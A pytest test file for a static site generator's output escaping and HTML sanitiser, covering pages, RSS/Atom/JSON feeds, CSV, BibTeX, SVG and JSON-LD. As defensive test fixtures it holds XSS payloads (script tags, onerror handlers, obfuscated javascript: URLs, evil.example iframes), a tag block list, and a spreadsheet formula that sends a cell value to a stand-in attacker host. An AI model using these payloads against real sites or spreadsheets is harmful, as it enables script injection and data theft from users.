"""Everything from content is escaped in every context it reaches; raw HTML in bodies is sanitised."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from urllib.parse import urlsplit

import feedparser
import lxml.html
import pytest
from lxml import etree
from pybtex.database import parse_string

from conftest import BASE_CONFIG, entry, read, run
from generator.markup import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

NASTY = "</script><script>alert(1)</script>\"'<b>&amp;"


def test_html_text_and_attributes(build_site):
    out = build_site({"content/articles/a.md": entry(NASTY, summary=NASTY, tags=["x"])})
    page = read(out / "articles/a/index.html")
    assert "<script>alert(1)</script>" not in page
    assert "<h1>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#34;&#39;&lt;b&gt;&amp;amp;</h1>" in page
    # in an attribute (the meta description), quotes are escaped too
    assert 'content="&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#34;&#39;&lt;b&gt;&amp;amp;"' in page


def test_urls_from_content_only_http_https_mailto(write_site):
    for bad in ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "JaVaScRiPt:alert(1)"]:
        site = write_site({"content/articles/a.md": entry("A", source={"url": bad})})
        result = run("build", "--site", str(site))
        assert result.code == 1 and "is not an http, https or mailto URL" in result.err, bad


def test_url_attribute_escaping(build_site):
    out = build_site({"content/articles/a.md": entry("A", authors=[{"name": "N", "url": 'https://e.org/"onmouseover="x'}])})
    page = read(out / "articles/a/index.html")
    assert 'href="https://e.org/&#34;onmouseover=&#34;x"' in page


def test_feeds_escape_text_and_parse(build_site):
    out = build_site({"content/articles/a.md": entry(NASTY, body=NASTY)})
    for name in ("feed.xml", "atom.xml"):
        parsed = feedparser.parse((out / name).read_bytes())
        assert not parsed.bozo
        assert "<script>" not in (out / name).read_text()  # escaped as text, never markup
    data = json.loads(read(out / "feed.json"))
    assert data["items"][0]["title"] == NASTY
    assert "<script>" not in data["items"][0]["content_html"]


def test_raw_html_in_bodies_is_sanitised(build_site):
    body = """<script>alert(1)</script>
<iframe src="https://evil.example/"></iframe>
<p onclick="steal()" style="background:url(https://evil.example/x.png)">para</p>
<a href="javascript:alert(2)">js link</a>
<img src="x.jpg" onerror="alert(3)" alt="kept">

<details><summary>More</summary>Hidden text</details>

<figure><img src="f.jpg" alt="fig"><figcaption>Caption</figcaption></figure>

| a | b |
|---|---|
| 1 | 2 |
"""
    out = build_site({"content/articles/a.md": entry("A", body=body)})
    page = read(out / "articles/a/index.html")
    body = page[page.index('<div class="body">'):]
    for gone in ["<script", "<iframe", "onclick", "onerror", "javascript:", "style=", "evil.example"]:
        assert gone not in body, gone
    for kept in ["<details><summary>More</summary>", "<figcaption>Caption</figcaption>", "<table>", "para",
                 'alt="kept"']:
        assert kept in page, kept


def test_unsafe_html_switch_keeps_raw_html_and_warns(write_site):
    site = write_site({"content/articles/a.md": entry("A", body='<div style="color:red">raw</div>')},
                      config=BASE_CONFIG + "markdown: {unsafe_html: true}\n")
    result = run("build", "--site", str(site))
    assert result.code == 0
    assert '<div style="color:red">raw</div>' in read(site / "output/articles/a/index.html")
    assert "warning: markdown.unsafe_html is true" in result.err


# ---- one escaping place per output format, checked as each format's reader reads it ----

HOSTILE = "<img src=x onerror=alert(1)> <script>alert(2)</script> ]]> & \"q\" 's {b} \\ end"
HOSTILE_BODY = """<blockquote cite="javascript:alert(3)">quoted</blockquote>
<q cite=" java&#9;script:alert(4)">short quote</q> <q cite="https://ok.example/q">kept</q>
<a href="JaVaScRiPt:alert(5)">js</a> <a href="mailto:editor@ok.example">mail</a> [relative](other/)
<img src="x.jpg" onerror="alert(6)" alt="photo"> <del cite="javascript:alert(7)">old</del>
<script>alert(8)</script><iframe src="https://evil.example/"></iframe>
<p onclick="steal()" style="color:red">para</p>
"""
URL_ATTRIBUTES = ("href", "src", "cite")
NEVER_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "form", "svg", "math", "base", "meta", "link"}
"""Refused whatever the allow-list says: each can run script, load content or change the page around it."""
RSS_CONTENT = "{http://purl.org/rss/1.0/modules/content/}encoded"
ATOM = "{http://www.w3.org/2005/Atom}"


def refused_markup(fragment: str, *, absolute: bool) -> list[str]:
    """What the sanitiser's allow-list would refuse in an HTML fragment, parsed as a reader parses it.

    absolute: every URL must carry its scheme (feeds: readers have no base).
    """
    if not fragment.strip():
        return []
    found = []
    for element in lxml.html.fragment_fromstring(fragment, create_parent="div").iterdescendants():
        if not isinstance(element.tag, str):
            found.append(f"comment {element.text!r}")
            continue
        if element.tag not in ALLOWED_TAGS or element.tag in NEVER_TAGS:
            found.append(f"<{element.tag}>")
        allowed = ALLOWED_ATTRIBUTES["*"] | ALLOWED_ATTRIBUTES.get(element.tag, set())
        for name, value in element.attrib.items():
            if name not in allowed or name.startswith("on") or name in ("style", "srcdoc"):
                found.append(f"<{element.tag} {name}>")
            if name in URL_ATTRIBUTES:
                scheme = urlsplit(re.sub(r"[\t\n\r]", "", value.strip())).scheme.lower()
                if scheme not in {"http", "https", "mailto"} and (absolute or scheme):
                    found.append(f"<{element.tag} {name}={value!r}>")
    return found


def html_text(fragment: str) -> str:
    """The text a reader shows for an HTML fragment."""
    return lxml.html.fragment_fromstring(fragment, create_parent="div").text_content()


def feed_html_fragments(out: Path, listing: str = "") -> list[tuple[str, str]]:
    """Every piece of HTML a reader renders from the listing's three feeds: (where, html).

    Each feed is first read as a reader reads it (feedparser) and as XML (lxml): both must accept it.
    """
    fragments = []
    for name in ("feed.xml", "atom.xml"):
        data = (out / listing / name).read_bytes()
        assert not feedparser.parse(data).bozo, name
        root = etree.fromstring(data)
        if name == "feed.xml":
            fragments.append(("RSS channel description", root.findtext("channel/description")))
            for item in root.iterfind("channel/item"):
                fragments.append(("RSS description", item.findtext("description")))
                fragments.append(("RSS content:encoded", item.findtext(RSS_CONTENT) or ""))
        else:
            for element in root.iter(f"{ATOM}content", f"{ATOM}summary", f"{ATOM}subtitle"):
                if element.get("type") == "html":
                    fragments.append((f"Atom {element.tag[len(ATOM):]}", element.text or ""))
    for item in json.loads(read(out / listing / "feed.json"))["items"]:
        fragments.append(("JSON Feed content_html", item.get("content_html", "")))
    return fragments


def hostile_site(**extra) -> dict[str, str]:
    post = ("```post\nplatform: twitter\nauthor: {name: " + json.dumps(HOSTILE) + ", handle: someone}\n"
            "text: " + json.dumps(HOSTILE) + "\nurl: " + json.dumps('https://twitter.com/someone/status/1?a="<>&')
            + "\nmedia: [{src: 'https://cdn.example/p.jpg', alt: " + json.dumps(HOSTILE) + "}]\n```\n")
    return {"content/articles/a.md": entry(HOSTILE, summary=HOSTILE, tags=[HOSTILE], authors=[HOSTILE],
                                           content_warnings=[HOSTILE],
                                           source={"title": HOSTILE, "publisher": HOSTILE,
                                                   "url": 'https://news.example/a?b="<>&c'},
                                           body=HOSTILE_BODY + "\n" + post, **extra)}


@pytest.mark.parametrize("settings", ["", "markdown: {unsafe_html: true}\n", "feeds: {full_content: false}\n"])
def test_feed_html_holds_nothing_the_sanitiser_refuses(write_site, settings):
    site = write_site(hostile_site(), config=BASE_CONFIG + settings)
    assert run("build", "--site", str(site)).code == 0
    out = site / "output"
    for listing in ("", "articles/"):
        fragments = feed_html_fragments(out, listing)
        assert len(fragments) == 5  # RSS: the channel's and the item's description, its content; Atom; JSON
        for where, fragment in fragments:
            assert refused_markup(fragment, absolute=True) == [], (listing, where, fragment)
    content = dict(feed_html_fragments(out))["RSS content:encoded"]
    if "full_content" not in settings:  # what a subscriber notices: the safe parts of the body are all there
        for kept in ('cite="https://ok.example/q"', 'href="mailto:editor@ok.example"',
                     'href="https://archive.example.org/articles/a/other/"',
                     'src="https://archive.example.org/articles/a/x.jpg"', "quoted", "short quote", "para"):
            assert kept in content, kept


def test_rss_description_shows_the_summary_as_text(write_site):
    site = write_site({"content/articles/a.md": entry("A", summary=HOSTILE)},
                      config=BASE_CONFIG.replace("description: A test archive.", f"description: {json.dumps(HOSTILE)}"))
    assert run("build", "--site", str(site)).code == 0
    rss = etree.fromstring((site / "output/feed.xml").read_bytes())
    for description in (rss.findtext("channel/description"), rss.findtext("channel/item/description")):
        assert refused_markup(description, absolute=True) == []
        assert html_text(description) == HOSTILE  # a reader rendering the HTML shows the text, element-free
    reader = feedparser.parse((site / "output/feed.xml").read_bytes())
    assert html_text(reader.entries[0].summary) == HOSTILE and "<img" not in reader.entries[0].summary
    atom = feedparser.parse((site / "output/atom.xml").read_bytes())
    assert atom.entries[0].summary == HOSTILE and atom.entries[0].summary_detail.type == "text/plain"
    data = json.loads(read(site / "output/feed.json"))
    assert data["description"] == HOSTILE and data["items"][0]["summary"] == HOSTILE


def test_cite_and_every_url_attribute_allow_only_http_https_mailto(build_site):
    out = build_site(hostile_site())
    page = read(out / "articles/a/index.html")
    body = page[page.index('<div class="body">'):page.index("</article>", page.index('<div class="body">'))]
    assert "javascript" not in body.lower()
    assert refused_markup(body, absolute=False) == []
    for kept in ('<q cite="https://ok.example/q">kept</q>', '<a href="mailto:editor@ok.example">mail</a>',
                 '<a href="other/">relative</a>', "<blockquote>quoted</blockquote>", "<del>old</del>"):
        assert kept in body, kept


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_that_look_like_formulas_are_text(build_site):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    post = "```post\nplatform: twitter\nauthor: {name: '@name', handle: someone}\ntext: '+1+2'\n```\n"
    out = build_site({"content/articles/a.md": entry(formula, summary="-2+3", authors=["@SUM(1,2)"],
                                                     content_warnings=["=1+1"],
                                                     source={"publisher": "\tTabbed", "title": "\rReturn"},
                                                     body=post)})
    with open(out / "data/entries.csv", encoding="utf-8", newline="") as handle:
        entries = list(csv.DictReader(handle))
    with open(out / "data/posts.csv", encoding="utf-8", newline="") as handle:
        posts = list(csv.DictReader(handle))
    for row in entries + posts:
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
    row = entries[0]
    assert row["title"] == "'" + formula and row["summary"] == "'-2+3" and row["authors"] == "'@SUM(1,2)"
    assert row["content_warnings"] == "'=1+1"
    assert posts[0]["text"] == "'+1+2" and posts[0]["author"] == "'@name"
    # JSON is no spreadsheet: it keeps the values as written
    assert json.loads(read(out / "data/entries.json"))[0]["title"] == formula


LATEX_TEXT = {r"\textbraceleft{}": "{", r"\textbraceright{}": "}", r"\textbackslash{}": "\\",
              r"\textasciitilde{}": "~", r"\textasciicircum{}": "^"}


def latex_text(value: str) -> str:
    """The text LaTeX prints for a field value made of text and the commands of special characters."""
    return re.sub(r"\\text[a-z]+\{\}|\\[%&$#_]", lambda m: LATEX_TEXT.get(m.group(0), m.group(0)[1:]), value)


def test_bibtex_of_a_hostile_title_parses_to_the_same_text(build_site):
    title = 'T {unbalanced \\ % & $ # _ ~ ^ }} @misc{x, title = "q"} end'
    out = build_site({"content/articles/a.md": entry(title + "\x01", authors=["A} and {B"],
                                                     source={"url": 'https://e.example/?q={"\\x"}'})})
    page = lxml.html.fromstring(read(out / "articles/a/index.html"))
    bibtex = page.find_class("cite-bibtex")[0].text_content()
    database = parse_string(bibtex, "bibtex")
    assert list(database.entries) == ["article:a"]
    fields = database.entries["article:a"].fields
    assert fields["title"].startswith("{") and fields["title"].endswith("}")
    assert latex_text(fields["title"][1:-1]) == title  # the control character is dropped
    assert [str(p) for p in database.entries["article:a"].persons["author"]] == ["{A\\textbraceright{} and "
                                                                                 "\\textbraceleft{}B}"]
    assert 'https://e.example/?q={"\\x"}' in latex_text(fields["note"])  # where the original was published


def test_timeline_svg_is_xml_whatever_the_term_titles(build_site):
    hostile = '<b>US</b> & "q" ]]> \x01'
    config = BASE_CONFIG.replace("us: {title: United States", f"us: {{title: {json.dumps(hostile)}")
    out = build_site({"content/articles/a.md": entry("A", regions=["us"], sectors=["sports"]),
                      "content/articles/b.md": entry("B", date="2017-11-02", regions=["france"])}, config=config)
    page = read(out / "timeline/index.html")
    charts = [etree.fromstring(svg) for svg in re.findall(r"<svg\b.*?</svg>", page, re.S)]
    assert len(charts) == 1 + 2 + 1  # the whole archive, two regions, one sector
    titles = [chart.findtext("{http://www.w3.org/2000/svg}title") for chart in charts]
    assert '<b>US</b> & "q" ]]> : entries per day' in titles


def test_json_ld_holds_hostile_text_as_data(build_site):
    out = build_site({"content/articles/a.md": entry(HOSTILE, summary=HOSTILE, authors=[HOSTILE])})
    page = lxml.html.fromstring(read(out / "articles/a/index.html"))
    scripts = page.xpath('//script[@type="application/ld+json"]')
    assert len(scripts) == 1 and "<" not in scripts[0].text  # `</script>` cannot end it early
    assert HOSTILE in json_strings(json.loads(scripts[0].text))  # the headline, as written


def json_strings(value) -> list[str]:
    if isinstance(value, dict):
        return [s for v in value.values() for s in json_strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in json_strings(v)]
    return [value] if isinstance(value, str) else []
